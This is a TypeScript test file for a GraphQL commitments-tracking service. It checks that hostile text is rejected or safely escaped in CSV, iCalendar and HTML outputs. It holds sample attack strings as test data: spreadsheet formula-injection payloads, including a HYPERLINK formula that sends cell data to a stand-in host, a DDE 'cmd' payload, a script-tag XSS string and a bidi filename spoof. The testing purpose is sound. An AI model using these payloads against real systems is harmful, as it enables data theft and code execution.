import fc from 'fast-check';
import request from 'supertest';
import { getBytes } from './http-get.js';
import { codesOf, newCommandId, startTestService, type GraphQLResponse, type TestService } from './harness.js';

const REGISTER = `mutation($input: RegisterActorInput!) { registerActor(input: $input) { actor { id name } } }`;
const RENAME = `mutation($input: RenameActorInput!) { renameActor(input: $input) { actor { name } } }`;
const MAKE = `mutation($input: MakeCommitmentInput!) { makeCommitment(input: $input) { commitment { id title } } }`;
const REPORT = `mutation($input: ReportCommitmentProgressInput!) { reportCommitmentProgress(input: $input) { commitment { progress { note } } } }`;

/** What the deciders keep of a text: NFC (the edge), trimmed with inner whitespace collapsed (tidyText). */
const stored = (text: string) => text.normalize('NFC').trim().replace(/\s+/g, ' ');

/** RFC 4180 parser for the test's reading of the downloaded CSV. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** iCalendar: unfold (RFC 5545 §3.1), then unescape a TEXT value (§3.3.11). */
const unfold = (ics: string) => ics.replace(/\r\n /g, '');
const unescapeText = (value: string) => value.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));

describe('Text hygiene at the edge and on the way out (issue 16, finding 7)', () => {
  let service: TestService;
  let admin: string;
  let sfr: string;

  beforeAll(async () => {
    service = await startTestService();
    admin = await service.token('sgar-52', 'admin');
    for (const actorId of ['sgar-52', 'sfr']) {
      const done = await service.graphql(
        REGISTER,
        { input: { commandId: newCommandId(), actorId, kind: 'PRIVATE_OPERATOR', name: actorId.toUpperCase(), territories: [{ kind: 'REGION', code: '52' }] } },
        admin,
      );
      expect(done.body.errors).toBeUndefined();
    }
    sfr = await service.token('sfr', 'representative');
  });
  afterAll(() => service.close());

  const headPosition = async () => (await request(service.app.getHttpServer()).get('/health')).body.store.headPosition;
  const register = (name: string, actorId?: string) =>
    service.graphql(
      REGISTER,
      { input: { commandId: newCommandId(), actorId, kind: 'PRIVATE_OPERATOR', name, territories: [{ kind: 'REGION', code: '52' }] } },
      admin,
    );
  const make = (title: string, commitmentId?: string) =>
    service.graphql(
      MAKE,
      {
        input: {
          commandId: newCommandId(),
          commitmentId,
          committingActorId: 'sfr',
          subject: 'FIXED_COVERAGE',
          title,
          target: { quantity: 10, unit: 'FTTH_PREMISES' },
          territories: [{ kind: 'COMMUNE', code: '44109' }],
          dueDate: '2026-12-20',
        },
      },
      sfr,
    );

  it('refuses NUL, BEL, ANSI escapes, C1, bidi overrides and isolates, and invisible-only names, writing nothing', async () => {
    const before = await headPosition();
    for (const name of [
      'Gigalis\u0000',
      'Bell\u0007',
      '\u001b[31mRouge\u001b[0m',
      'C1\u0085',
      'Facture \u202Efdp.exe',
      'Isolé \u2066x\u2069',
      '\u200b\u200b\u200b',
      ' \u00a0\u2003 ',
      '\ufeff',
      'Deux\nlignes',
      'Tab\tulé',
    ]) {
      const response = await register(name);
      expect(codesOf(response)).toEqual(['BAD_USER_INPUT']);
      expect(response.body.errors![0].extensions!.fields).toEqual(['name']);
    }
    // Nested and list strings too: the path names the field.
    const nested = await service.graphql(
      REGISTER,
      { input: { commandId: newCommandId(), kind: 'PRIVATE_OPERATOR', name: 'Ok', territories: [{ kind: 'REGION', code: '5\u202e2' }] } },
      admin,
    );
    expect(nested.body.errors![0].extensions!.fields).toEqual(['territories[0].code']);
    expect(await headPosition()).toBe(before);
  });

  it('keeps tab and line feed in multi-line fields (a progress note), and stores text in NFC', async () => {
    const decomposed = 'Re\u0301seau de\u0301partemental';
    const made = await make(decomposed, 'sfr-nfc');
    expect(made.body.errors).toBeUndefined();
    expect(made.body.data!.makeCommitment.commitment.title).toBe('Réseau départemental');
    const noted = await service.graphql(
      REPORT,
      { input: { commandId: newCommandId(), commitmentId: 'sfr-nfc', value: 1, asOf: '2026-01-31', source: 'DECLARED', note: 'Ligne 1\n\tLigne 2' } },
      sfr,
    );
    expect(noted.body.errors).toBeUndefined();
    expect(noted.body.data!.reportCommitmentProgress.commitment.progress.at(-1).note).toBe('Ligne 1 Ligne 2');
    const bell = await service.graphql(
      REPORT,
      { input: { commandId: newCommandId(), commitmentId: 'sfr-nfc', value: 2, asOf: '2026-01-31', source: 'DECLARED', note: 'Ding\u0007' } },
      sfr,
    );
    expect(codesOf(bell)).toEqual(['BAD_USER_INPUT']);
  });

  it('property: any Unicode string is refused with BAD_USER_INPUT, or stored and returned as its NFC (tidied); never INTERNAL', async () => {
    const hostile = fc.constantFrom(
      '\u0000',
      '\u202e',
      '\u2066',
      '\u200b',
      '\ud800',
      '\udfff',
      "=cmd|' /C calc'!A0",
      'e\u0301',
      '\u1e9b\u0323',
      '\u00a0',
      '\u0085',
      '\u2028',
      '😀',
      '\u{10ffff}',
    );
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.string({ unit: 'grapheme', maxLength: 30 }),
      fc.array(fc.oneof(hostile, fc.string({ maxLength: 4 })), { maxLength: 8 }).map((parts) => parts.join('')),
      fc.string({ unit: 'grapheme-ascii', minLength: 190, maxLength: 260 }),
    );
    let counter = 0;
    const registeredIds = new Set<string>();
    const check = (response: GraphQLResponse, sent: string, read: () => string | undefined) => {
      expect(response.status).toBeLessThan(500);
      const codes = codesOf(response);
      if (codes.length) {
        expect(codes).toEqual(['BAD_USER_INPUT']);
        return;
      }
      expect(read()).toBe(stored(sent));
    };
    await fc.assert(
      fc.asyncProperty(text, text, text, text, async (name, title, note, id) => {
        counter += 1;
        // Identifier fields too: refused, or kept exactly (an id is never tidied).
        const byId = await register(`Opérateur ${counter}`, id);
        // fast-check draws the same id more than once in a run (its bias favours strings like "key"): registered already.
        if (registeredIds.has(id.normalize('NFC'))) expect(codesOf(byId)).toEqual(['CONFLICT']);
        else check(byId, id, () => byId.body.data?.registerActor.actor.id);
        if (!byId.body.errors) {
          expect(byId.body.data!.registerActor.actor.id).toBe(id.normalize('NFC'));
          registeredIds.add(id.normalize('NFC'));
        }
        const registered = await register(name, `fuzz-${counter}`);
        check(registered, name, () => registered.body.data?.registerActor.actor.name);
        const renamed = await service.graphql(RENAME, { input: { commandId: newCommandId(), actorId: 'sfr', name } }, sfr);
        check(renamed, name, () => renamed.body.data?.renameActor.actor.name);
        const made = await make(title, `fuzz-${counter}`);
        check(made, title, () => made.body.data?.makeCommitment.commitment.title);
        if (!made.body.errors) {
          const noted = await service.graphql(
            REPORT,
            { input: { commandId: newCommandId(), commitmentId: `fuzz-${counter}`, value: 1, asOf: '2026-01-31', source: 'DECLARED', note } },
            sfr,
          );
          check(noted, note, () => noted.body.data?.reportCommitmentProgress.commitment.progress.at(-1).note);
        }
      }),
      { numRuns: 80 },
    );
  }, 120_000);

  it('round-trips hostile text through the CSV table, the iCalendar feed and the HTML report, harmless', async () => {
    const titles = [
      `=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")`,
      `=cmd|' /C calc'!A0`,
      '@SUM(1+1)',
      '+33 6 00 00 00 00',
      '-2+3',
      'Réseau <script>alert(1)</script>; "cité", virgule\\antislash',
    ];
    for (const [i, title] of titles.entries()) expect((await make(title, `hostile-${i}`)).body.errors).toBeUndefined();

    const csv = await getBytes(service.app, '/reports/52/2026-S2/tables/commitments.csv', admin);
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.body.toString('utf8'));
    const titleColumn = rows[0].indexOf('title');
    const cells = new Map(rows.slice(1).map((row) => [row[0], row[titleColumn]]));
    for (const [i, title] of titles.entries()) {
      const cell = cells.get(`hostile-${i}`)!;
      expect(cell).toBe(/^[=+\-@]/.test(title) ? `'${title}` : title);
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const ics = await getBytes(service.app, '/feeds/calendar.ics?from=2026-12-01&to=2026-12-31', admin);
    expect(ics.status).toBe(200);
    const summaries = unfold(ics.body.toString('utf8'))
      .split('\r\n')
      .filter((line) => line.startsWith('SUMMARY:'))
      .map((line) => unescapeText(line.slice('SUMMARY:'.length)));
    for (const title of titles) expect(summaries).toContain(`Échéance : ${title} (sfr)`);

    const html = (await getBytes(service.app, '/reports/52/2026-S2/report.html', admin)).body.toString('utf8');
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('Réseau &lt;script&gt;alert(1)&lt;/script&gt;; &quot;cité&quot;, virgule\\antislash');
  });
});
